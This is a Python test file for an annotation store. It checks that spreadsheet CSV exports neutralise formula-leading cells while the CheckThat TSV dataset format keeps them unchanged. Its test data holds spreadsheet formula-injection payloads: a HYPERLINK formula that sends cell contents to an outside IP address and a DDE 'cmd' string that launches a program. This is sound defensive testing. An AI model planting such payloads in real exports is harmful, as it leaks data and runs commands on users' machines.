"""Which exports guard spreadsheet formulas and which stay byte-true: a CSV meant for a spreadsheet shows
a cell starting with = + - @ as text ('-prefixed), while the dataset's own format (CheckThat TSV) is
written unchanged, because the scorers and our loader read it back as data. Real SQLite annotation store,
real CheckThat train rows with hostile texts put in."""

from __future__ import annotations

import csv
import io

from debate.adjudication.annotations import AnnotationStore
from debate.adjudication.hardcases import from_upload
from debate.datasets import load_checkthat
from tests.conftest import SHARED_DATA

FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1"]


def _hostile_checkthat(path) -> None:
    items = load_checkthat(SHARED_DATA / "checkthat2025_4a" / "ct_train.tsv")[:len(FORMULAS)]
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, delimiter="\t", lineterminator="\n")
        w.writerow(["index", "text", "labels"])
        for item, text in zip(items, FORMULAS):
            w.writerow([item.id, text, "[" + ", ".join("1.0" if item.gold[c] == "YES" else "0.0" for c in "123") + "]"])


def test_the_spreadsheet_csv_guards_formulas_and_the_dataset_tsv_round_trips(tmp_path):
    f = tmp_path / "hostile.tsv"
    _hostile_checkthat(f)
    spec = from_upload("hostile.tsv", f.read_bytes())
    s = AnnotationStore(tmp_path / "a.db")
    qid = s.create_queue(spec)
    for c in spec.cases:
        s.set_label(qid, c.key, "=ann", "YES")  # an annotator's name becomes a column header

    cells = [c for row in csv.reader(io.StringIO(s.export(qid, "cases"))) for c in row]
    assert any(c.startswith("label:") and "=ann" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells  # every formula shown as text
    assert {"'" + t for t in FORMULAS} <= set(cells)

    out = tmp_path / "back.tsv"
    out.write_text(s.export(qid, "native"), encoding="utf-8")
    assert [i.text for i in load_checkthat(out)] == FORMULAS  # the dataset format: unchanged, byte for byte
